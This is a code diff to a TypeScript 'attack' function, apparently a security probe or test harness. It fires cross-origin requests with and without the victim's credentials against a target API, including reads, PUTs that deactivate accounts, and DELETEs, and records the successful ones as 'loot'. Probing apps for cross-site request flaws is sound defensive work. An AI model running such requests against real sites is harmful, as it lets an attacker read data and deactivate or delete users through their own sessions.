@@ -18,19 +18,20 @@ export async function attack({ target, id }: { target: string; id: string }): Pr
     [api, { headers }],
     [api, { method: "POST" }],
     [api, { method: "POST", headers }],
+    [`${target}/api/roles`, { headers }],
+    [`${api}/${id}`, { headers }],
+    [`${api}/${id}`, { method: "PUT", body: '{"active":false}' }],
+    [`${api}/${id}`, { method: "PUT", body: '{"active":false}', headers }],
     [`${api}/${id}`, { method: "DELETE" }],
     [`${api}/${id}`, { method: "DELETE", headers }],
   ];
-  for (const [url, init] of requests) {
-    for (const credentials of ["include", "omit"] as const) {
-      for (const mode of ["cors", "no-cors"] as const) {
-        const name = `${init.method ?? "GET"} ${url}`;
-        const read = await fetch(url, { ...init, credentials, mode }).then(
-          async (response) => await response.text(),
-          () => "",
-        );
-        if (read !== "") loot.push(`${name} with fetch`);
-      }
+  for (const credentials of ["include", "omit"] as const) {
+    for (const mode of ["cors", "no-cors"] as const) {
+      const tries = requests.map(async ([url, init]) => {
+        const response = await fetch(url, { ...init, credentials, mode });
+        if ((await response.text()) !== "") loot.push(`${init.method ?? "GET"} ${url} with fetch`);
+      });
+      await Promise.allSettled(tries);
     }
   }
 
